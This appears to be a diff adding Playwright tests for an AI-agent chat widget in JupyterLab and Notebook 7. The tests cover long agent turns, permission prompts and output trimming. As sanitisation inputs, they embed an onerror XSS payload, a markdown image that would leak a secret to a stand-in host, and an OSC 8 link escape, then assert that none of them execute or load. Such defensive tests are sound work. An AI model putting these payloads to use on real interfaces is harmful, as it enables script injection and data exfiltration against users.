@@ -1,0 +1,113 @@
+"""A long turn is one output: its end and a live question show without "Show more outputs".
+
+The scripted agent plays 200 steps (a paragraph and a tool call each, about
+400 blocks, far past JupyterLab's 50 outputs per cell); at step 150 it asks
+a permission and waits. The question must be visible and clickable where the
+reader is, the final text and the status line must show after it, the page
+keeps a bounded number of blocks ("Show N earlier" brings back older ones),
+and agent HTML in the last steps stays text. JupyterLab and Notebook 7.
+"""
+
+from __future__ import annotations
+
+import json
+import re
+import sys
+
+from .conftest import AGENTS, Notebook, TURN, skip_unless_browser
+
+skip_unless_browser()
+
+from playwright.sync_api import expect
+
+DONE = re.compile(r"^Done\b")
+STEPS = 200
+ASK_AT = 150
+IMG = "<img src=x onerror=window.__acp_pwned=1>"
+ANSI = "\x1b[31mred text\x1b[0m \x1b]8;;http://127.0.0.1:9/osc\x1b\\osc link\x1b]8;;\x1b\\ end"
+
+
+def long_turn(steps: int = STEPS, ask_at: int = ASK_AT) -> list[dict]:
+    actions: list[dict] = []
+    for i in range(steps):
+        actions.append({"chunk": f"Step {i}: reading file_{i}.py.\n\n"})
+        body = f"# heading in file_{i}\nline {i}" if i % 2 else ANSI
+        actions.append({"update": {"sessionUpdate": "tool_call", "toolCallId": f"t{i}", "title": f"Read file_{i}.py",
+                                   "kind": "read", "status": "completed",
+                                   "content": [{"type": "content", "content": {"type": "text", "text": body}}]}})
+        if i == ask_at:
+            actions.append({"request": {"method": "session/request_permission", "params": {
+                "sessionId": "$SID",
+                "toolCall": {"toolCallId": f"t{i}", "title": f"Write result {IMG}", "kind": "edit"},
+                "options": [{"optionId": "ok", "name": "Allow", "kind": "allow_once"},
+                            {"optionId": "no", "name": "Reject", "kind": "reject_once"}]}}})
+    actions.append({"chunk": f"FINAL ANSWER after {steps} steps {IMG} ![leak](http://127.0.0.1:9/leak.png?secret=1)\n"})
+    return actions
+
+
+def _one_output(out) -> None:
+    """The turn is one output (beside it only the agent's start-up line, emptied once it started)."""
+    expect(out.locator(".jp-OutputArea-output .acp-turn")).to_have_count(1)
+    others = [t for t in out.locator(".jp-OutputArea-output:not(:has(.acp-turn))").all_inner_texts() if t.strip()]
+    assert not others, others
+
+
+def _run_long_turn(nb: Notebook, shot: str) -> None:
+    page = nb.page
+    requests: list[str] = []
+    page.on("request", lambda req: requests.append(req.url))
+    scenario_file = nb.lab.root / "long-turn.json"
+    scenario_file.write_text(json.dumps({"prompt": long_turn()}))
+    out0 = nb.run(0, f"%agent --command {sys.executable} {AGENTS / 'scripted_agent.py'} {scenario_file}")
+    expect(out0).to_contain_text("it starts with the next prompt", timeout=TURN)
+    out = nb.run(1, "go")
+    # The question at step 150: visible and clickable, no "Show more outputs" click first.
+    question = out.locator(".acp-permission")
+    expect(question).to_be_visible(timeout=TURN)
+    expect(question.locator(".acp-q-title")).to_have_text(f"Write result {IMG}")
+    expect(out.locator(".jp-TrimmedOutputs")).to_have_count(0)
+    _one_output(out)
+    question.scroll_into_view_if_needed()
+    nb.screenshot(f"{shot}-asking.png")
+    question.get_by_role("button", name="Allow", exact=True).click()
+    expect(out.locator(".jp-OutputArea-output sub").last).to_have_text(DONE, timeout=TURN)
+    final = out.get_by_text(f"FINAL ANSWER after {STEPS} steps")
+    expect(final).to_be_visible()
+    expect(final).to_contain_text(IMG)  # agent HTML is text
+    expect(out).to_contain_text(f'RESULT {{"outcome": {{"outcome": "selected", "optionId": "ok"}}}}')
+    expect(out.locator(".jp-TrimmedOutputs")).to_have_count(0)
+    _one_output(out)
+    question = out.locator(".acp-permission")
+    expect(question.locator(".acp-q-outcome")).to_have_text("→ chose Allow")
+    # The image is a placeholder naming its host; nothing loaded it.
+    expect(out.locator(".acp-img")).to_contain_text("image from 127.0.0.1: click to load")
+    # The DOM is bounded: the last 120 blocks, and a way to the earlier ones.
+    before = out.locator(".acp-block").count()
+    assert before <= 125, before
+    more = out.locator(".acp-more")
+    expect(more).to_be_visible()
+    expect(more).to_contain_text("earlier")
+    out.locator(".jp-OutputArea-output sub").last.scroll_into_view_if_needed()
+    nb.screenshot(f"{shot}-done.png")
+    more.click()
+    expect(out.locator(".acp-block")).to_have_count(before + 100)
+    # A tool row's output: colours as spans, the OSC 8 link gone (its text kept), the heading a line of text.
+    row = out.locator(".acp-tc").filter(has=page.locator(".acp-tc-title", has_text="Read file_198.py"))
+    row.locator(".acp-tc-head").click()
+    expect(row.locator(".acp-tc-text .ansi-red-fg")).to_have_text("red text")
+    expect(row.locator(".acp-tc-text")).to_have_text("red text osc link end")
+    odd = out.locator(".acp-tc").filter(has=page.locator(".acp-tc-title", has_text="Read file_199.py"))
+    odd.locator(".acp-tc-head").click()
+    expect(odd.locator(".acp-tc-text")).to_have_text("# heading in file_199\nline 199")
+    assert out.locator("a[href*='osc'], img").count() == 0
+    assert page.evaluate("typeof window.__acp_pwned") == "undefined"
+    assert not [u for u in requests if "127.0.0.1:9" in u], requests
+    assert not [e for e in nb.console_errors if re.search(r"acp|anywidget", e, re.I)], nb.console_errors
+
+
+def test_a_200_step_turn_shows_its_end_and_its_question_in_jupyterlab(nb: Notebook) -> None:
+    _run_long_turn(nb, "long-turn-lab")
+
+
+def test_a_200_step_turn_shows_its_end_and_its_question_in_notebook7(nb7: Notebook) -> None:
+    _run_long_turn(nb7, "long-turn-nb7")
